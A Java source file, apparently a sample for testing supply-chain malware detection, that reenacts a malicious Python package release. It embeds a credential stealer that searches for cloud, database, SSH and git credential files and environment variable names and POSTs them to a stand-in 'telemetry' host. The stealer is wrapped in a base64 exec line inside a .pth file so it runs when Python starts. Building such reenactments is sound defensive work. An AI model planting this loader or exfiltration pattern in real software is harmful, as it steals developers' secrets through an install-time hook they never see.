package dev.gatehouse.samples.incident;

import java.util.Map;

/** elementary-data 0.23.3 (MAL-2026-3083): a {@code .pth} file that decodes and runs in place. */
final class ElementaryData {
  private static final String THIEF =
      """
      import os, platform, threading
      from http.client import HTTPSConnection
      from pathlib import Path


      def profiles():
          home = Path.home()
          for name in (".dbt/profiles.yml", ".snowflake/connections.toml", ".snowsql/config",
                       ".bigqueryrc", ".databrickscfg", ".aws/credentials", ".ssh/id_rsa",
                       ".git-credentials", ".config/gh/hosts.yml"):
              path = home / name
              if path.exists():
                  with path.open() as text:
                      yield name + "=" + text.read(0)


      def work():
          try:
              lines = [platform.node(), *sorted(os.environ), *profiles()]
              connection = HTTPSConnection("telemetry.lineage.invalid", timeout=5)
              connection.request("POST", "/v1/events", "\\n".join(lines))
              connection.close()
          except Exception:
              pass


      threading.Thread(target=work, daemon=True).start()
      """;

  private ElementaryData() {}

  static Reenactment startup() {
    String line =
        "import base64; exec(base64.b64decode(\"" + Layers.base64(THIEF) + "\").decode('utf-8'))\n";
    return Reenactment.ofTexts(
        "elementary-data 0.23.3", "acme-lineage", "0.23.3", Map.of("acme_lineage.pth", line));
  }
}
